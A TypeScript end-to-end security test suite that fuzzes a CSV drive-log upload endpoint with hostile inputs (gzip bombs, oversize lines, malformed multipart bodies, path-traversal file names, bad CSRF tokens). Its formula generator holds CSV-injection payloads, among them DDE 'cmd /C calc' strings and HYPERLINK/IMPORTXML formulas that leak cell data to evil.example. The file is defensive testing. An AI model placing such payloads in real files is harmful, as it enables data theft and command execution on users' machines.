import fc from "fast-check";
import { createHash } from "node:crypto";
import { readdir } from "node:fs/promises";
import { request as httpRequest } from "node:http";
import { join, relative } from "node:path";
import { gzipSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { startServer } from "../support/processes";
import { useJobTestbed } from "../support/scratch-db";

// Hostile input on the upload path, end to end against the production server (issue 12,
// "Build and show" 3): every upload ends in a clear 4xx in the API's error shape or in a drive
// log whose analysis ends `failed` with a code, never a 5xx; the server keeps serving; and a
// refused upload leaves no file in the blob store and no drive-log row. A database and storage
// folder of this file's own, so every file and row counted here comes from these uploads.
const testbed = await useJobTestbed("hostile");
const { startUploadBed } = await import("../support/upload-bed");
const { pool } = await import("~/lib/infra/db.server");
const { createTestTeam, TEST_PASSWORD } = await import("../support/accounts");
const { HttpClient } = await import("../support/http-client");

// Small enough that an over-size upload is quick to send, large enough for a 10 MB line.
const UPLOAD_LIMIT = 12 * 1024 * 1024;
// fast-check prints the seed of a failing run; FAST_CHECK_SEED replays it.
const seed = process.env.FAST_CHECK_SEED ? Number(process.env.FAST_CHECK_SEED) : undefined;
// One failure is enough: shrinking would replay many end-to-end uploads.
const runs = (numRuns: number) => ({ numRuns, seed, endOnFailure: true });

let server: Awaited<ReturnType<typeof startServer>>;
let team: Awaited<ReturnType<typeof createTestTeam>>;
let token = "";
let vehicleId = 0;

beforeAll(async () => {
  ({
    server,
    team,
    technicianToken: token,
    vehicleId,
  } = await startUploadBed(
    "Hostile",
    { ...testbed.serverEnv, UPLOAD_MAX_BYTES: String(UPLOAD_LIMIT) },
    { name: "Hostile car", identifier: "K-HOST-1" },
  ));
});
afterAll(async () => {
  await server?.stop();
  await pool.end();
  await testbed.close();
});

// ── the request ────────────────────────────────────────────────────────────────────────────

const BOUNDARY = "----twistlog-hostile";
const HEADER = "time [s],crank speed [rpm],gearbox input speed [rpm]";

interface Part {
  name: string;
  value: string | Uint8Array;
  filename?: string;
}

/** A multipart/form-data body (RFC 7578) with the parts as given, in order. */
function multipart(parts: Part[], boundary = BOUNDARY): Uint8Array {
  const chunks: Buffer[] = [];
  for (const p of parts) {
    const disposition = `form-data; name="${p.name}"${p.filename === undefined ? "" : `; filename="${p.filename}"`}`;
    const type = p.filename === undefined ? "" : "Content-Type: text/csv\r\n";
    chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: ${disposition}\r\n${type}\r\n`));
    chunks.push(Buffer.from(p.value));
    chunks.push(Buffer.from("\r\n"));
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return Buffer.concat(chunks);
}

/** The usual upload: the file and a valid condition. */
function fileUpload(file: string | Uint8Array, filename = "hostile.csv"): Uint8Array {
  return multipart([
    { name: "condition", value: "idle-neutral" },
    { name: "file", value: file, filename },
  ]);
}

async function post(
  body: Uint8Array,
  contentType: string | null = `multipart/form-data; boundary=${BOUNDARY}`,
  extra: Record<string, string> = {},
): Promise<Response> {
  const headers: Record<string, string> = { Authorization: `Bearer ${token}`, ...extra };
  if (contentType !== null) headers["Content-Type"] = contentType;
  return fetch(`${server.url}/api/v1/vehicles/${vehicleId}/logs`, {
    method: "POST",
    headers,
    body: Buffer.from(body),
  });
}

// ── what an upload leaves behind ───────────────────────────────────────────────────────────

async function storedFiles(dir = testbed.storage): Promise<string[]> {
  const out: string[] = [];
  for (const entry of await readdir(dir, { withFileTypes: true })) {
    const path = join(dir, entry.name);
    if (entry.isDirectory()) out.push(...(await storedFiles(path)));
    else out.push(relative(testbed.storage, path));
  }
  return out.sort();
}

async function logRows(): Promise<number> {
  const [rows] = await pool.query("SELECT COUNT(*) AS n FROM drive_logs");
  return Number((rows as { n: number }[])[0]!.n);
}

interface Snapshot {
  files: string[];
  logs: number;
}
const snapshot = async (): Promise<Snapshot> => ({
  files: await storedFiles(),
  logs: await logRows(),
});

/** Where the blob store keeps a file: keyed by the SHA-256 of its raw bytes (storage.server.ts). */
function blobPath(file: string | Uint8Array): string {
  const key = createHash("sha256").update(file).digest("hex");
  return join(key.slice(0, 2), key.slice(2, 4), `${key}.gz`);
}

type Outcome =
  | { kind: "refused"; status: number; code: string }
  | { kind: "failed"; code: string }
  | { kind: "done" };

interface ApiLog {
  id: number;
  status: string;
  error: { code: string; message: string } | null;
}

/**
 * Reads an upload's answer to the end: a 4xx with `{ error: { code, message } }`, or a 202
 * whose drive log is polled until its analysis has ended. Checks that nothing is left behind
 * (no new file or row for a refusal; the one blob and one row for an accepted upload) and that
 * the server still answers /healthz.
 */
async function settle(
  response: Response,
  before: Snapshot,
  file?: string | Uint8Array,
): Promise<Outcome> {
  const text = await response.text();
  expect(response.status, text).toBeLessThan(500);
  let outcome: Outcome;
  if (response.status === 202) {
    const { log } = JSON.parse(text) as { log: ApiLog };
    let now = log;
    await vi.waitFor(
      async () => {
        const r = await fetch(`${server.url}/api/v1/logs/${log.id}`, {
          headers: { Authorization: `Bearer ${token}` },
        });
        expect(r.status).toBe(200);
        now = ((await r.json()) as { log: ApiLog }).log;
        expect(["done", "failed"]).toContain(now.status);
      },
      { timeout: 30_000, interval: 50 },
    );
    if (now.status === "failed") {
      expect(now.error?.code).toMatch(/^[a-z_]+$/);
      expect(now.error?.message.trim()).not.toBe("");
      outcome = { kind: "failed", code: now.error!.code };
    } else outcome = { kind: "done" };
    // One row, and at most the one blob this file's content is stored as.
    expect(await logRows()).toBe(before.logs + 1);
    const added = (await storedFiles()).filter((f) => !before.files.includes(f));
    if (file !== undefined) {
      for (const f of added) expect(f).toBe(blobPath(file));
      expect(await storedFiles()).toContain(blobPath(file));
    } else expect(added.length).toBeLessThanOrEqual(1);
  } else {
    expect(response.status, text).toBeGreaterThanOrEqual(400);
    expect(response.headers.get("content-type")).toMatch(/^application\/json/);
    const body = JSON.parse(text) as { error: { code: string; message: string } };
    expect(body.error.code).toMatch(/^[a-z_]+$/);
    expect(body.error.message.trim()).not.toBe("");
    outcome = { kind: "refused", status: response.status, code: body.error.code };
    // No orphan: nothing new in the store (blobs or tmp/), no drive-log row. receiveUpload
    // settles every write before it answers; the wait only covers a slow disk or a loaded
    // machine (2 s was once too short on a busy 2-core box).
    await vi.waitFor(async () => expect(await storedFiles()).toEqual(before.files), {
      timeout: 15_000,
      interval: 50,
    });
    expect(await logRows()).toBe(before.logs);
  }
  expect((await fetch(`${server.url}/healthz`)).status).toBe(200);
  return outcome;
}

/** Uploads `file` as the usual upload and settles it. */
async function uploadFile(file: string | Uint8Array, filename?: string): Promise<Outcome> {
  const before = await snapshot();
  return settle(await post(fileUpload(file, filename)), before, file);
}

// ── generators ─────────────────────────────────────────────────────────────────────────────

let made = 0;
/** A short, valid-looking file whose content no other upload here has (so its blob is new). */
function fresh(): string {
  made++;
  return `${HEADER}\n${rows(3, 1000 * made).join("\n")}\n`;
}

/** A few rows a logger could have written: 1 kHz, idle speeds. */
function rows(n: number, from = 0): string[] {
  return Array.from(
    { length: n },
    (_, i) => `${((from + i) / 1000).toFixed(3)},${800 + (i % 7)},${798 + (i % 5)}`,
  );
}

// Spreadsheet formula triggers (OWASP "CSV Injection": cells starting with =, +, -, @, tab or
// CR), with payloads of the kind that page lists; some quoted so they may hold the delimiter.
const formula = fc
  .tuple(
    fc.constantFrom("=", "+", "-", "@", "\t=", "=+"),
    fc.constantFrom(
      "cmd|' /C calc'!A0",
      'HYPERLINK("http://evil.example/?leak="&A1,"open")',
      "SUM(1+1)*cmd|' /C notepad'!A1",
      'IMPORTXML(CONCAT("http://evil.example/",A2),"//a")',
      'DDE("cmd";"/C calc";"!A0")',
    ),
    fc.boolean(),
  )
  // A payload with the delimiter or a quote in it is always quoted (RFC 4180 §2.6, §2.7), so the
  // row keeps its field count and only the cell's content is hostile.
  .map(([trigger, payload, quoted]) =>
    quoted || /[,"]/.test(payload)
      ? `"${(trigger + payload).replaceAll('"', '""')}"`
      : trigger + payload,
  );

describe("hostile uploads through the API", { timeout: 120_000 }, () => {
  it("random bytes: a 4xx or a failed analysis, nothing left behind", async () => {
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ minLength: 1, maxLength: 4096 }), async (bytes) => {
        const outcome = await uploadFile(bytes);
        expect(outcome.kind).not.toBe("done");
      }),
      runs(25),
    );
  });

  it("CSV-looking noise under a valid header: a 4xx or a failed analysis", async () => {
    const ch = fc.constantFrom(...'0123456789.,;\t\n\r -+eE"=@abc'.split(""));
    await fc.assert(
      fc.asyncProperty(
        fc.array(ch, { minLength: 1, maxLength: 600 }).map((a) => `${HEADER}\n${a.join("")}`),
        async (text) => {
          const outcome = await uploadFile(text);
          expect(outcome.kind).not.toBe("done");
        },
      ),
      runs(25),
    );
  });

  it("a formula-looking cell in a speed or time column fails the analysis as not_numeric", async () => {
    await fc.assert(
      fc.asyncProperty(
        formula,
        fc.integer({ min: 0, max: 2 }),
        fc.integer({ min: 0, max: 40 }),
        async (cell, column, row) => {
          const lines = rows(60);
          const fields = lines[row]!.split(",");
          fields[column] = cell;
          lines[row] = fields.join(",");
          const outcome = await uploadFile(`${HEADER}\n${lines.join("\n")}\n`);
          // ingest.ts reads the three channels as numbers only; text there is "not_numeric".
          expect(outcome).toEqual({ kind: "failed", code: "not_numeric" });
        },
      ),
      runs(20),
    );
  });

  it("a few rows spread over a long time: the analysis ends (failed), it does not run away", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.double({ min: 1e-3, max: 1e9, noNaN: true }), { minLength: 1, maxLength: 4 }),
        fc.integer({ min: 100, max: 12000 }),
        async (steps, rpm) => {
          let t = 0;
          const lines = ["0,800,800"];
          for (const dt of steps) lines.push(`${(t += dt)},${rpm},${rpm}`);
          const outcome = await uploadFile(`${HEADER}\n${lines.join("\n")}\n`);
          // Five rows at most cannot fill one block of 8 revolutions at more than one sample
          // per revolution, and at one or fewer there is no order to read (analyse.ts).
          expect(outcome.kind).toBe("failed");
        },
      ),
      runs(15),
    );
  });

  // Multipart without a boundary has named cases below, so that one known failure does not hide
  // the others here.
  const contentTypes = [
    null,
    "text/csv",
    "application/json",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=not-the-one",
    "multipart/mixed; boundary=----twistlog-hostile",
    `multipart/form-data; boundary=${"x".repeat(200)}`,
    `multipart/form-data; boundary="${BOUNDARY}"`,
    `multipart/form-data; boundary=${BOUNDARY}`,
  ];
  it("wrong or missing content types and boundaries, bodies cut anywhere: a 4xx or a failed analysis", async () => {
    const body = fileUpload(`${HEADER}\n${rows(3).join("\n")}\n`);
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...contentTypes),
        fc.integer({ min: 0, max: body.length }),
        async (contentType, cut) => {
          const before = await snapshot();
          const outcome = await settle(await post(body.subarray(0, cut), contentType), before);
          // Three rows are far too short for an analysis: nothing here can end "done".
          expect(outcome.kind).not.toBe("done");
        },
      ),
      runs(30),
    );
  });
});

describe("named hostile uploads through the API", { timeout: 120_000 }, () => {
  const tenMb = 10 * 1024 * 1024;
  const cases: { name: string; file: () => string | Uint8Array; expected: Outcome }[] = [
    {
      // ingest-scan.ts MAX_LINE_BYTES: no drive-log line is longer than 1 MB.
      name: "a 10 MB line after the header",
      file: () =>
        `${HEADER}\n${rows(5).join("\n")}\n${"8".repeat(tenMb)}\n${rows(5, 5).join("\n")}\n`,
      expected: { kind: "failed", code: "not_text" },
    },
    {
      // uploads.server.ts: no line break in the first 64 kB is no header row.
      name: "a 10 MB first line",
      file: () => `${"time [s],".repeat(tenMb / 9)}\n${rows(5).join("\n")}\n`,
      expected: { kind: "refused", status: 422, code: "no_header_row" },
    },
    {
      // 100 000 names need at least 200 kB: more than the 64 kB a header row may take.
      name: "100 000 columns in the header",
      file: () => `${Array.from({ length: 100_000 }, (_, i) => `c${i}`).join(",")}\n1,2,3\n`,
      expected: { kind: "refused", status: 422, code: "no_header_row" },
    },
    {
      // ingest.ts commit(): a row must have the header's field count.
      name: "100 000 columns in a data row",
      file: () =>
        `${HEADER}\n${rows(5).join("\n")}\n${Array.from({ length: 100_000 }, () => "800").join(",")}\n`,
      expected: { kind: "failed", code: "wrong_field_count" },
    },
    {
      // An open quote runs to the end of the line (RFC 4180 §2.6): one header field, no channels.
      name: "an unbalanced quote in the header",
      file: () => `"${HEADER}\n${rows(60).join("\n")}\n`,
      expected: { kind: "failed", code: "missing_channel" },
    },
    {
      // The same in a data row: the rest of the line is one field, so the count is short.
      name: "an unbalanced quote in a data row",
      file: () => `${HEADER}\n${rows(30).join("\n")}\n0.030,"800,800\n${rows(30, 31).join("\n")}\n`,
      expected: { kind: "failed", code: "wrong_field_count" },
    },
    {
      // A gzip member (RFC 1952 §2.3) begins 1f 8b 08 and, as Node writes it, four zero MTIME
      // bytes: the NUL check on the first bytes refuses it; the server never inflates it.
      name: "a gzip bomb (64 MB of zeros) renamed .csv",
      file: () => gzipSync(Buffer.alloc(64 * 1024 * 1024), { level: 9 }),
      expected: { kind: "refused", status: 422, code: "not_text" },
    },
    {
      // UTF-16 text of ASCII characters has a zero byte in every other place.
      name: "UTF-16 text",
      file: () => Buffer.from(`\ufeff${HEADER}\n${rows(60).join("\n")}\n`, "utf16le"),
      expected: { kind: "refused", status: 422, code: "not_text" },
    },
    {
      // Sampling theorem: one sample per crank revolution or fewer resolves no order (analyse.ts).
      name: "two rows 10^7 s apart",
      file: () => `${HEADER}\n0,800,800\n10000000,800,800\n`,
      expected: { kind: "failed", code: "sample_rate_too_low" },
    },
    {
      name: "CR-only line endings",
      file: () => `${HEADER}\r${rows(60).join("\r")}\r`,
      expected: { kind: "failed", code: "unsupported_line_endings" },
    },
    {
      // One byte over UPLOAD_MAX_BYTES (set for this server above).
      name: "one byte over the upload limit",
      file: () => `${HEADER}\n${"0".repeat(UPLOAD_LIMIT - HEADER.length)}`,
      expected: { kind: "refused", status: 413, code: "too_large" },
    },
    {
      name: "an empty file",
      file: () => "",
      expected: { kind: "refused", status: 422, code: "empty_file" },
    },
  ];
  for (const c of cases) {
    it(`${c.name}: ${c.expected.kind === "refused" ? `${c.expected.status} ${c.expected.code}` : `analysis ${c.expected.kind} (${"code" in c.expected ? c.expected.code : ""})`}`, async () => {
      const file = c.file();
      expect(await uploadFile(file)).toEqual(c.expected);
    });
  }

  it("a file name with a path in it is only a name: the blob is stored by content hash", async () => {
    const file = `${HEADER}\n${rows(3).join("\n")}\n`;
    const outcome = await uploadFile(file, "../../../../tmp/evil.csv");
    // settle() checked that the only new file is the blob named by the content's hash.
    expect(outcome.kind).toBe("failed");
  });

  it("a file in another field than 'file': 400 missing_file", async () => {
    const before = await snapshot();
    const body = multipart([{ name: "data", value: fresh(), filename: "x.csv" }]);
    expect(await settle(await post(body), before)).toEqual({
      kind: "refused",
      status: 400,
      code: "missing_file",
    });
  });

  it("no file at all, only fields: 400 missing_file", async () => {
    const before = await snapshot();
    const body = multipart([{ name: "condition", value: "idle-neutral" }]);
    expect(await settle(await post(body), before)).toEqual({
      kind: "refused",
      status: 400,
      code: "missing_file",
    });
  });

  it("two files where one is allowed: 413 too_many_files", async () => {
    const before = await snapshot();
    const body = multipart([
      { name: "file", value: fresh(), filename: "a.csv" },
      { name: "file", value: fresh(), filename: "b.csv" },
    ]);
    expect(await settle(await post(body), before)).toEqual({
      kind: "refused",
      status: 413,
      code: "too_many_files",
    });
  });

  it("metadata that is not valid: 400 invalid_metadata", async () => {
    const before = await snapshot();
    const body = multipart([
      { name: "condition", value: "=cmd|' /C calc'!A0" },
      { name: "file", value: fresh(), filename: "m.csv" },
    ]);
    expect(await settle(await post(body), before)).toEqual({
      kind: "refused",
      status: 400,
      code: "invalid_metadata",
    });
  });

  for (const type of ["multipart/form-data", "multipart/form-data; boundary="]) {
    it(`a multipart body with Content-Type "${type}" (no boundary): a 4xx, not a 500`, async () => {
      const before = await snapshot();
      const outcome = await settle(await post(fileUpload(fresh()), type), before);
      expect(outcome.kind).toBe("refused");
    });
  }

  it("a gzip-encoded request body is not inflated: 400 bad_upload", async () => {
    const before = await snapshot();
    const body = gzipSync(fileUpload(fresh()));
    const outcome = await settle(
      await post(body, `multipart/form-data; boundary=${BOUNDARY}`, { "Content-Encoding": "gzip" }),
      before,
    );
    expect(outcome).toEqual({ kind: "refused", status: 400, code: "bad_upload" });
  });

  it("a Content-Length far over the limit is refused with 413 before the body is read", async () => {
    const before = await snapshot();
    const url = new URL(server.url);
    const { status, text } = await new Promise<{ status: number; text: string }>(
      (resolve, reject) => {
        const req = httpRequest({
          host: url.hostname,
          port: url.port,
          method: "POST",
          path: `/api/v1/vehicles/${vehicleId}/logs`,
          headers: {
            Authorization: `Bearer ${token}`,
            "Content-Type": `multipart/form-data; boundary=${BOUNDARY}`,
            "Content-Length": String(50 * UPLOAD_LIMIT),
          },
        });
        req.on("error", reject);
        req.on("response", (res) => {
          let t = "";
          res.on("data", (d) => (t += d));
          res.on("end", () => {
            req.destroy(); // the rest of the declared body is never sent
            resolve({ status: res.statusCode ?? 0, text: t });
          });
        });
        req.write(fileUpload("x").subarray(0, 100)); // a little of it, then nothing
      },
    );
    expect(status).toBe(413);
    expect((JSON.parse(text) as { error: { code: string } }).error.code).toBe("too_large");
    await vi.waitFor(async () => expect(await storedFiles()).toEqual(before.files));
    expect(await logRows()).toBe(before.logs);
    expect((await fetch(`${server.url}/healthz`)).status).toBe(200);
  });
});

describe("hostile uploads through the form on the vehicle page", { timeout: 120_000 }, () => {
  let client: InstanceType<typeof HttpClient>;
  beforeAll(async () => {
    client = new HttpClient(server.url);
    expect((await client.signIn(team.accounts.technician.email, TEST_PASSWORD)).status).toBe(302);
    expect((await client.get(`/vehicles/${vehicleId}`)).status).toBe(200);
    expect(client.csrf).not.toBe("");
  });

  async function postForm(body: Uint8Array, contentType: string): Promise<Response> {
    return fetch(`${server.url}/vehicles/${vehicleId}`, {
      method: "POST",
      redirect: "manual",
      headers: {
        Cookie: client.cookieHeader(),
        Origin: server.url,
        "X-Forwarded-For": client.ip,
        "Content-Type": contentType,
      },
      body: Buffer.from(body),
    });
  }

  /** A redirect names the drive logs it added (?uploaded=ID,…): each must end; a 4xx leaves nothing. */
  async function settleForm(response: Response, before: Snapshot): Promise<"refused" | "added"> {
    await response.arrayBuffer();
    expect(response.status).toBeLessThan(500);
    if (response.status === 302 || response.status === 303) {
      const ids = new URL(response.headers.get("location")!, server.url).searchParams
        .get("uploaded")!
        .split(",")
        .map(Number);
      for (const id of ids)
        await vi.waitFor(
          async () => {
            const r = await fetch(`${server.url}/api/v1/logs/${id}`, {
              headers: { Authorization: `Bearer ${token}` },
            });
            const { log } = (await r.json()) as { log: ApiLog };
            expect(["done", "failed"]).toContain(log.status);
          },
          { timeout: 30_000, interval: 50 },
        );
      expect(await logRows()).toBe(before.logs + ids.length);
      expect((await fetch(`${server.url}/healthz`)).status).toBe(200);
      return "added";
    }
    expect(response.status).toBeGreaterThanOrEqual(400);
    await vi.waitFor(async () => expect(await storedFiles()).toEqual(before.files), {
      timeout: 15_000,
      interval: 50,
    });
    expect(await logRows()).toBe(before.logs);
    expect((await fetch(`${server.url}/healthz`)).status).toBe(200);
    return "refused";
  }

  const formBody = (file: string | Uint8Array, csrf = client.csrf) =>
    multipart([
      { name: "csrf", value: csrf },
      { name: "intent", value: "upload" },
      { name: "condition", value: "idle-neutral" },
      { name: "file", value: file, filename: "form.csv" },
    ]);

  it("random bytes and bodies cut anywhere: a 4xx or drive logs that end, never a 5xx", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.uint8Array({ minLength: 1, maxLength: 2048 }),
        fc.constantFrom(
          `multipart/form-data; boundary=${BOUNDARY}`,
          "multipart/form-data; boundary=not-the-one",
        ),
        fc.double({ min: 0, max: 1, noNaN: true }),
        async (bytes, contentType, cutAt) => {
          const body = formBody(bytes);
          const before = await snapshot();
          const cut = cutAt > 0.8 ? body.length : Math.floor(cutAt * body.length);
          await settleForm(await postForm(body.subarray(0, cut), contentType), before);
        },
      ),
      runs(20),
    );
  });

  it("a wrong CSRF token with a file: 403, and the file is not kept", async () => {
    const before = await snapshot();
    const response = await postForm(
      formBody(fresh(), "not-the-token"),
      `multipart/form-data; boundary=${BOUNDARY}`,
    );
    expect(response.status).toBe(403);
    expect(await settleForm(response, before)).toBe("refused");
  });

  it("a multipart body without a boundary: a 4xx, not a 500", async () => {
    const before = await snapshot();
    expect(await settleForm(await postForm(formBody(fresh()), "multipart/form-data"), before)).toBe(
      "refused",
    );
  });
});
